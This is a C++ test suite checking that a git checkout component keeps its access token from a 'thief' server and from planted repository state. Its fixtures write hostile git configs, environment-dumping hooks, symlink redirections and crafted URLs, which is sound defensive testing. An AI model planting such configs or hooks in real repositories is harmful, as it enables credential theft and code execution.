// Whom the token of the code reaches, when a server or the trainer's files want it elsewhere.
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdlib>
#include <functional>

#include "agent/host/checkout.hpp"
#include "agent/host/git.hpp"
#include "checkout.hpp"

namespace spotter::act::host {
namespace {

namespace fs = std::filesystem;

class Token : public Checkout {
 protected:
  void SetUp() override {
    Checkout::SetUp();
    if (IsSkipped()) return;
    git({"update-server-info"});
    proof_ = directory_ / "proof";
    fs::create_directory(proof_);
    fs::permissions(proof_, fs::perms::all);
  }
  verbs::Checkout asked(const GitServer& server, const std::string& revision,
                        const std::string& scheme = "http") const {
    auto result = request(revision);
    result.repository = server.url(scheme) + "/repository/.git";
    result.token = "s3cret";
    return result;
  }
  void plant(const fs::path& path, const std::string& text) const {
    fs::remove_all(directory_ / path);
    fs::permissions(write(path, text), fs::perms(0755));
    if (::geteuid() == 0) must_run({"chown", "-hR", "nobody", (directory_ / "code").string()});
  }
  // A configuration that sends the token elsewhere, or runs a program that could.
  std::string configuration(const std::string& server, const std::string& thief) const {
    const auto program = (directory_ / "evil").string();
    return "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = " + program +
           "\n\thooksPath = " + directory_.string() + "/hooks\n\tsshCommand = " + program +
           "\n\tgitProxy = " + program + "\n\taskPass = " + program + "\n[url \"" + thief +
           "\"]\n\tinsteadOf = " + server + "\n[http]\n\tproxy = " + thief +
           "\n[credential]\n\thelper = " + program + "\n[filter \"x\"]\n\tsmudge = " + program +
           "\n[extensions]\n\tworktreeConfig = true\n[include]\n\tpath = " + directory_.string() +
           "/included\n";
  }
  // A git directory of an attacker's, at a path that the trainer can link to.
  void evil_repository(const std::string& server, const std::string& thief) const {
    git({"init", "-q", "--bare", (directory_ / "evil.git").string()}, false);
    write("evil.git/config", configuration(server, thief));
    write("evil.git/info/attributes", "* filter=x\n");
    const std::string script = "#!/bin/sh\nenv >" + proof_.string() + "/$$\n";
    std::vector<std::string> programs{"evil"};
    for (const char* hook : {"post-checkout", "reference-transaction", "post-index-change"})
      for (const char* place : {"hooks/", "evil.git/hooks/"})
        programs.push_back(place + std::string(hook));
    for (const auto& program : programs) fs::permissions(write(program, script), fs::perms(0755));
    must_run({"chmod", "-R", "a+rwX", (directory_ / "evil.git").string()});
  }

  fs::path proof_;
};

TEST_F(Token, AnswersItsServerAndIsKeptNowhere) {
  const GitServer server(directory_, "server");
  auto it = asked(server, first_);
  it.token.clear();
  EXPECT_EQ(kind_of(checkout(it)), "code-denied") << "no token";
  it.token = "wrong";
  EXPECT_EQ(kind_of(checkout(it)), "code-denied");
  it.token = "s3cret";
  const auto done = checkout(it);
  ASSERT_TRUE(done) << words_of(done);
  EXPECT_EQ(code("train.sh"), "echo one\n");
  for (const auto& entry : fs::recursive_directory_iterator(directory_ / "code")) {
    if (!entry.is_regular_file()) continue;
    const auto text = io::read_file(entry.path(), 1U << 20).value_or("");
    EXPECT_EQ(text.find("s3cret"), std::string::npos) << entry.path();
  }
  const auto asked_before = server.seen();
  EXPECT_FALSE(checkout(it)->fetched);
  EXPECT_EQ(server.seen(), asked_before) << "what is there needs no server";
  it.revision = std::string(40, 'a');
  EXPECT_EQ(kind_of(checkout(it)), "revision-missing");
}

TEST_F(Token, ComesByTls) {
  const auto key = (directory_ / "key.pem").string();
  must_run({"openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
            "-nodes", "-days", "2", "-subj", "/CN=x", "-addext", "subjectAltName=IP:127.0.0.1",
            "-keyout", key, "-out", (directory_ / "certificate.pem").string()});
  must_run({"sh", "-c", "cat \"$0/certificate.pem\" >>\"$0/key.pem\"", directory_.string()});
  ::setenv("GIT_SSL_CAINFO", (directory_ / "certificate.pem").c_str(), 1);
  const GitServer server(directory_, "server", {"tls", key});
  const auto done = checkout(asked(server, second_, "https"));
  ::unsetenv("GIT_SSL_CAINFO");
  EXPECT_TRUE(done) << words_of(done);
  EXPECT_TRUE(server.saw("x-access-token:s3cret"));
}

TEST_F(Token, GoesWithTheUserOfTheUrl) {
  const GitServer server(directory_, "server", {"user", "gitlab+deploy-token-1"});
  auto it = asked(server, second_);
  it.repository.insert(it.repository.find("://") + 3, "gitlab+deploy-token-1@");
  const auto done = checkout(it);
  EXPECT_TRUE(done) << words_of(done);
  EXPECT_TRUE(server.saw("gitlab+deploy-token-1:s3cret"));
}

TEST_F(Token, IsNotSentInPlainTextToAnotherMachine) {
  const GitServer server(directory_, "server");
  auto it = asked(server, first_);
  it.repository.replace(it.repository.find("127.0.0.1"), 9, "127.0.0.2");
  const auto done = checkout(it);
  EXPECT_EQ(kind_of(done), "code-denied");
  EXPECT_NE(words_of(done).find("TLS"), std::string::npos) << words_of(done);
  EXPECT_EQ(server.seen(), "");
}

TEST_F(Token, FollowsNoRedirect) {
  const GitServer thief(directory_, "thief", {"token", "none"});
  for (const std::string when : {"lures", "moved"}) {
    SCOPED_TRACE(when);
    const GitServer server(directory_, when, {when, thief.url()});
    const auto done = checkout(asked(server, first_));
    EXPECT_EQ(kind_of(done), "code-denied");
    EXPECT_NE(words_of(done).find("redirects"), std::string::npos) << words_of(done);
    EXPECT_NE(server.seen(), "");
    EXPECT_EQ(thief.seen(), "");
  }
}

TEST_F(Token, IsReadInNoEnvironmentByTheTrainersUser) {
  if (::geteuid() != 0) GTEST_SKIP() << "as one user, each process can read the others'";
  const GitServer server(directory_, "server");
  const auto done = checkout(asked(server, first_));
  ASSERT_TRUE(done) << words_of(done);
  EXPECT_TRUE(server.saw("x-access-token:s3cret hidden"));
  EXPECT_FALSE(server.saw("readable"));
}

// A unit with DynamicUser= has a number of the same range, and would read the token.
TEST_F(Token, IsOfNoUserWhoIsAtWork) {
  if (::geteuid() != 0) GTEST_SKIP() << "as one user, each process can read the others'";
  constexpr uid_t first = 61184, last = 65519;
  const uid_t taken = first + static_cast<uid_t>(::getpid()) % (last - first + 1);
  int ends[2];
  ASSERT_EQ(::pipe2(ends, O_CLOEXEC), 0);
  const pid_t service = ::fork();
  if (service == 0) {
    const bool is_it = ::setgid(taken) == 0 && ::setuid(taken) == 0;
    [[maybe_unused]] const auto written = ::write(ends[1], is_it ? "x" : "", is_it ? 1 : 0);
    ::close(ends[1]);
    for (;;) ::pause();
  }
  ::close(ends[1]);
  char byte = 0;
  const bool runs = ::read(ends[0], &byte, 1) == 1;
  ::close(ends[0]);
  const GitServer server(directory_, "server");
  const auto done = checkout(asked(server, first_));
  ::kill(service, SIGKILL);
  ::waitpid(service, nullptr, 0);
  ASSERT_TRUE(runs);
  ASSERT_TRUE(done) << words_of(done);
  EXPECT_TRUE(server.saw("x-access-token:s3cret hidden as 6")) << server.seen();
  EXPECT_FALSE(server.saw(" as " + std::to_string(taken) + "\n")) << server.seen();
}

// The code that was fetched with it lies below /var/tmp for a while.
TEST_F(Token, FetchesWhatTheTrainerMayReadAndNoOtherUser) {
  if (::geteuid() != 0) GTEST_SKIP() << "as one user there is nobody to hide it from";
  const auto folder = PrivateFolder::make();
  ASSERT_TRUE(folder) << folder.error().message;
  const auto reader = find_user("nobody");
  ASSERT_TRUE(reader && folder->show(*reader));
  struct stat status {};
  ASSERT_EQ(::stat(folder->path().c_str(), &status), 0);
  EXPECT_EQ(status.st_mode & 07777, 0750U);
  EXPECT_EQ(status.st_gid, reader->gid);
}

// Things that a trainer can leave behind in its checkout, each by itself.
TEST_F(Token, IsOutOfReachOfWhatTheTrainerLeft) {
  const GitServer thief(directory_, "thief", {"token", "none"});
  const GitServer server(directory_, "server");
  evil_repository(server.url(), thief.url());
  const auto evil = directory_ / "evil.git";
  const auto own = directory_ / "code/.git";
  const auto configured = configuration(server.url(), thief.url());
  const auto link = [](const fs::path& to, const fs::path& at) {
    fs::remove_all(at);
    fs::create_symlink(to, at);
  };
  const std::pair<const char*, std::function<void()>> attacks[] = {
      {"config", [&] { plant("code/.git/config", configured); }},
      {"config is a link", [&] { link(evil / "config", own / "config"); }},
      {"commondir", [&] { plant("code/.git/commondir", evil.string() + "\n"); }},
      {"config.worktree",
       [&] {
         plant("code/.git/config", "[extensions]\n\tworktreeConfig = true\n");
         plant("code/.git/config.worktree", configured);
       }},
      {".git is a file", [&] { plant("code/.git", "gitdir: " + evil.string() + "\n"); }},
      {".git is a link", [&] { link(evil, own); }},
      {"our own folder is a link", [&] { link(evil, own / "spotter"); }},
      {"our own folder is there", [&] { plant("code/.git/spotter/config", configured); }},
      {"alternates",
       [&] { plant("code/.git/objects/info/alternates", evil.string() + "/objects\n"); }},
      {"hooks",
       [&] {
         plant("code/.git/hooks/post-checkout", "#!/bin/sh\nenv >" + proof_.string() + "/x\n");
       }},
      {"attributes",
       [&] {
         plant("code/.git/config", configured);
         plant("code/.git/info/attributes", "* filter=x\n");
       }},
      {"the index is nonsense", [&] { plant("code/.git/index", "DIRC nonsense"); }},
      {"objects are a file", [&] { plant("code/.git/objects", "none"); }},
      {"refs are a link", [&] { link(evil / "refs", own / "refs"); }}};
  for (const auto& [name, attack] : attacks) {
    SCOPED_TRACE(name);
    make_code();
    ASSERT_TRUE(checkout(asked(server, first_)));
    attack();
    const auto done = checkout(asked(server, second_));
    EXPECT_TRUE(done) << words_of(done);
    EXPECT_EQ(code("train.sh"), "echo two\n");
    EXPECT_EQ(thief.seen(), "");
    EXPECT_TRUE(fs::is_empty(proof_)) << "a program of the trainer's ran";
  }
}

TEST_F(Token, LeavesNoFolderBehindAndRemovesThatOfAKilledOne) {
  const auto place = directory_ / "temporary";
  fs::create_directory(place);
  fs::permissions(place, fs::perms::all | fs::perms::sticky_bit);
  const auto left = place / "spotter-private-killed";
  const auto others = place / "spotter-private-others";
  for (const auto& folder : {left, others}) fs::create_directories(folder / "objects");
  if (::geteuid() == 0) must_run({"chown", "-R", "61200", left.string()});
  ::setenv("TMPDIR", place.c_str(), 1);
  const GitServer server(directory_, "server");
  const auto done = checkout(asked(server, first_));
  ::unsetenv("TMPDIR");
  EXPECT_TRUE(done) << words_of(done);
  EXPECT_FALSE(fs::exists(left));
  fs::remove_all(others);
  EXPECT_TRUE(fs::is_empty(place));
}

TEST(TokenServer, IsSchemeHostAndPort) {
  const std::pair<const char*, const char*> servers[] = {
      {"https://example.com/x/y.git", "https://example.com"},
      {"https://me@example.com:8443/x", "https://example.com:8443"},
      {"https://[2001:db8::1]:8443/x", "https://[2001:db8::1]:8443"},
      {"https://example.com", "https://example.com"},
      {"http://localhost:80/x", "http://localhost:80"},
      {"http://[::1]/x", "http://[::1]"},
      {"ssh://git@example.com/x", ""},
      {"git@example.com:x/y.git", ""},
      {"/srv/x.git", ""}};
  for (const auto& [url, server] : servers) {
    const auto found = token_server(url);
    ASSERT_TRUE(found) << url << ": " << words_of(found);
    EXPECT_EQ(*found, server) << url;
  }
  for (const char* url :
       {"http://example.com/x", "http://localhost.example.com/x", "http://127.0.0.1.example.com/x",
        "https:///x", "https://*.example.com/x", "https://example.com\\@other.com/x",
        "https://example.com:8443x/y", "https://example.com%2f@x y/z", "https://[::1/x",
        "http://localhost@example.com/x"})
    EXPECT_EQ(kind_of(token_server(url)), "code-denied") << url;
}

}  // namespace
}  // namespace spotter::act::host
